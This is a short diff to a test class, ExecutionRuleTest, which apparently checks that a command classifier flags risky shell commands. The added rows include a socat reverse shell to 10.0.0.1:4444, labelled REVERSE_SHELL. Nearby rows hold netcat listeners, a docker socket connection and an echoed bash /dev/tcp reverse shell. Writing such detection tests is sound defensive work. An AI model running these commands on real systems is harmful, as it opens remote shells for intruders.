@@ -132,6 +132,8 @@ class ExecutionRuleTest {
           row("nc -l 8080 > upload.bin", ""),
           row("echo hello | nc 10.0.0.1 1234", ""),
           row("socat TCP-LISTEN:8080,fork TCP:localhost:80", ""),
+          row("socat TCP-LISTEN:7000,reuseaddr,fork EXEC:./handler.sh", ""),
+          row("socat tcp-connect:10.0.0.1:4444 system:'sh -i'", "REVERSE_SHELL"),
           row("socat - UNIX-CONNECT:/var/run/docker.sock", ""),
           row("echo 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'", ""),
           row("nc -l -p 1500 -c 'echo -e \"HTTP/1.1 200 OK\"'", ""),
